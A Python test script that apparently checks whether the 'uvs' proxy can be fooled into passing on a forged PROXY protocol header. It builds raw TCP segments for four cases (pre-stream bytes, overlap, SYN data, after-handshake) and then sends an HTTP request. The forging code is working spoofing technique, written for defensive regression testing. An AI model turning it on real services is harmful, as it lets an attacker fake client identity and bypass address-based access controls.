#!/usr/bin/env python3
"""
A client that tries to forge the PROXY protocol header through uvs (issue 25): it speaks TCP from
a raw socket, so it can send what no socket API sends — bytes before its own stream start, data on
its SYN — and then an ordinary HTTP request. What the real server reads first decides who it
thinks the client is. Standard library only; run as root in the client's namespace, with the
kernel's RSTs for `sport` dropped (the caller's nft rule: no socket owns this port).

  tcp-forge.py SRC DST DPORT SPORT VERSION CASE TAG

VERSION is uvs's header version on that service (v1 | v2): the forged header is built the same
length as uvs's own, so that in the old shifted numbering it lands exactly on [S, S + len).
CASE:
  end      a segment carrying the forged header that ends exactly at the stream start S
  overlap  one segment from S − len to past S: the forged header, then the request's first bytes
  syndata  the forged header and the request as data on the SYN (TCP Fast Open without a cookie)
  after    the handshake ACK first (uvs's header goes), then the forged segment ending at S
Prints one JSON line: {"status": <HTTP status line or null>, "synack": bool}.
"""
import json, os, random, select, socket, struct, sys, time

src, dst, dport, sport, version, case, tag = sys.argv[1:8]
dport, sport = int(dport), int(sport)
v6 = ":" in dst
fam = socket.AF_INET6 if v6 else socket.AF_INET


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def pseudo(n):
    if v6:
        return socket.inet_pton(fam, src) + socket.inet_pton(fam, dst) + struct.pack("!I3xB", n, 6)
    return socket.inet_pton(fam, src) + socket.inet_pton(fam, dst) + struct.pack("!xBH", 6, n)


def seg(seq, ack, flags, data=b"", mss=False):
    opts = struct.pack("!BBH", 2, 4, 1200) if mss else b""
    hl = 20 + len(opts)
    h = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, (hl // 4) << 4, flags, 65535, 0, 0) + opts
    c = csum(pseudo(len(h) + len(data)) + h + data)
    return h[:16] + struct.pack("!H", c) + h[18:] + data


def header_for(client, cport):
    """uvs's header for this connection, and a forged one of the same length (6.6.6.6 / 2001:db8::666)."""
    if version == "v2":
        if v6:
            real = socket.inet_pton(fam, client) + socket.inet_pton(fam, dst)
            fake = socket.inet_pton(fam, "2001:db8::666") + socket.inet_pton(fam, dst)
            fam_b, alen = 0x21, 36
        else:
            real = socket.inet_pton(fam, client) + socket.inet_pton(fam, dst)
            fake = socket.inet_pton(fam, "6.6.6.6") + socket.inet_pton(fam, dst)
            fam_b, alen = 0x11, 12
        sig = b"\r\n\r\n\x00\r\nQUIT\n\x21" + bytes([fam_b]) + struct.pack("!H", alen)
        ports = struct.pack("!HH", cport, dport)
        return len(sig + real + ports), sig + fake + struct.pack("!HH", 6666, dport)
    proto = "TCP6" if v6 else "TCP4"
    real = "PROXY %s %s %s %d %d\r\n" % (proto, client, dst, cport, dport)
    # The same length: a forged address padded by the port's digits (the 66.66.6.66).
    fake_addr = "2001:db8::666" if v6 else "66.66.6.66"
    for p in range(1, 65536):
        fake = "PROXY %s %s %s %d %d\r\n" % (proto, fake_addr, dst, p, dport)
        if len(fake) == len(real):
            return len(real), fake.encode()
    fake_addr = "6.6.6.6" if not v6 else "2001:db8::6"
    for p in range(1, 65536):
        fake = "PROXY %s %s %s %d %d\r\n" % (proto, fake_addr, dst, p, dport)
        if len(fake) == len(real):
            return len(real), fake.encode()
    raise SystemExit("no forged line of length %d" % len(real))


send = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_TCP)
recv = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_TCP)
recv.setblocking(False)


def tx(b):
    send.sendto(b, (dst, 0))


def rx(timeout):
    """The next segment from dst:dport to our port: (seq, ack, flags, data), or None."""
    end = time.time() + timeout
    while time.time() < end:
        r, _, _ = select.select([recv], [], [], max(0, end - time.time()))
        if not r:
            return None
        pkt, addr = recv.recvfrom(65535)
        if not v6:
            pkt = pkt[(pkt[0] & 15) * 4:]
        if addr[0] != dst or len(pkt) < 20:
            continue
        sp, dp, seq, ack, off, flags = struct.unpack("!HHIIBB", pkt[:14])
        if sp != dport or dp != sport:
            continue
        return seq, ack, flags, pkt[(off >> 4) * 4:]
    return None


SYN, ACK, PSH, FIN, RST = 2, 16, 8, 1, 4
isn = random.randrange(1 << 20, 1 << 31)
S = isn + 1
hlen, fake = header_for(src, sport)
request = ("GET /index.html?forge=%s HTTP/1.0\r\nHost: vip\r\n\r\n" % tag).encode()

syn_data = fake + request if case == "syndata" else b""
synack = None
for _ in range(3):
    tx(seg(isn, 0, SYN, syn_data, mss=True))
    t_end = time.time() + 1.0
    while time.time() < t_end:
        r = rx(t_end - time.time())
        if r and r[2] & (SYN | ACK) == SYN | ACK:
            synack = r
            break
    if synack:
        break
if not synack:
    print(json.dumps({"status": None, "synack": False}))
    sys.exit(0)
y = synack[0] + 1
nxt = S + (synack[1] - S if synack[1] - S > 0 and case == "syndata" else 0)  # data the SYN-ACK took

if case == "end":
    tx(seg(S - hlen, y, ACK | PSH, fake))
    tx(seg(nxt, y, ACK))
elif case == "overlap":
    tx(seg(S - hlen, y, ACK | PSH, fake + request[:10]))
    tx(seg(nxt, y, ACK))
elif case == "after":
    tx(seg(nxt, y, ACK))
    tx(seg(S - hlen, y, ACK | PSH, fake))
else:  # syndata: the handshake ACK (the data again if the SYN-ACK did not take it)
    tx(seg(nxt, y, ACK))
time.sleep(0.05)
sent = nxt - S
if sent < len(request):
    tx(seg(S + sent, y, ACK | PSH, request[sent:]))

# Read the answer, acknowledging as we go, until the server's FIN or 3 s of silence.
got = {}
rcv = y
status = None
end = time.time() + 10
while time.time() < end:
    r = rx(3.0)
    if r is None:
        break
    seq, ack, flags, data = r
    if flags & RST:
        break
    if data:
        got.setdefault(seq, data)
    while rcv in got:
        rcv += len(got[rcv])
    if flags & FIN and seq + len(data) == rcv:
        rcv += 1
        tx(seg(S + len(request), rcv, ACK | FIN))
        break
    tx(seg(S + len(request), rcv, ACK))
body = b"".join(got[k] for k in sorted(got))
if body.startswith(b"HTTP/"):
    status = body.split(b"\r\n", 1)[0].decode("latin1")
print(json.dumps({"status": status, "synack": True}))
